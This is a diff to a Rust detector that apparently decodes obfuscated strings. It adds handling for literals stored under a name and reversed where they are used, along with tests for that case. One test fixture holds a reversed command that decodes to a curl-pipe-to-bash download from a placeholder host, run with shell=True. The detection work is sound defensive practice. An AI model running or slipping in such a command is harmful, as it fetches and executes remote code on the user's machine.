@@ -897,11 +897,42 @@ static REV: LazyLock<Regex> = LazyLock::new(|| {
     .unwrap()
 });
 
+/// `NAME = "…"` on a line of its own: a string a later `NAME[::-1]` may
+/// reverse.
+static NAMED_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?m)^[ \t]*(?P<name>[A-Za-z_][A-Za-z0-9_]*)[ \t]*=[ \t]*(?:'(?P<a>[^'\n]{4,})'|"(?P<b>[^"\n]{4,})")[ \t]*$"#,
+    )
+    .unwrap()
+});
+
+/// `NAME[::-1]`, `NAME.split("").reverse()`: a name reversed where it is used.
+static NAME_REVERSED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?P<name>[A-Za-z_][A-Za-z0-9_]*)(?:\[::-1\]|\.split\((?:""|'')\)\.reverse\(\))"#).unwrap()
+});
+
 fn reversed(text: &str, budget: &mut Budget, out: &mut Vec<Decoded>) {
     for c in REV.captures_iter(text) {
         let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)).or_else(|| c.get(4)) else { continue };
         let Some(all) = c.get(0) else { continue };
         push(out, budget, all.range(), m.as_str().chars().rev().collect(), REVERSED, 1);
+    }
+    // A string written forward in one place and reversed where it is used
+    // (`_CMD = "hsab | …"`, later `run(_CMD[::-1])`): decoded at the place it
+    // is written. Names are one name in the file; the first binding counts.
+    let reversed_names: Vec<&str> =
+        NAME_REVERSED.captures_iter(text).filter_map(|c| c.name("name")).map(|m| m.as_str()).collect();
+    if reversed_names.is_empty() {
+        return;
+    }
+    let mut seen = Vec::new();
+    for c in NAMED_LITERAL.captures_iter(text) {
+        let (Some(name), Some(lit)) = (c.name("name"), c.name("a").or_else(|| c.name("b"))) else { continue };
+        if !reversed_names.contains(&name.as_str()) || seen.contains(&name.as_str()) {
+            continue;
+        }
+        seen.push(name.as_str());
+        push(out, budget, lit.range(), lit.as_str().chars().rev().collect(), REVERSED, 1);
     }
 }
 
@@ -1128,6 +1159,11 @@ mod tests {
 
     #[test]
     fn reversed_strings_are_read_forward() {
+        assert_eq!(
+            texts("W = \"hsab | hs.x/elpmaxe.x//:ptth s- lruc\"\nrun(W[::-1], shell=True)\n"),
+            vec!["curl -s http://x.example/x.sh | bash"]
+        );
+        assert!(texts("W = \"hsab | hs.x\"\nprint(W)\n").is_empty(), "not reversed anywhere");
         assert_eq!(texts("echo 'ih ohce' | rev | sh\n"), vec!["echo hi"]);
         assert_eq!(texts("x = \"ih ohce\"[::-1]\n"), vec!["echo hi"]);
     }
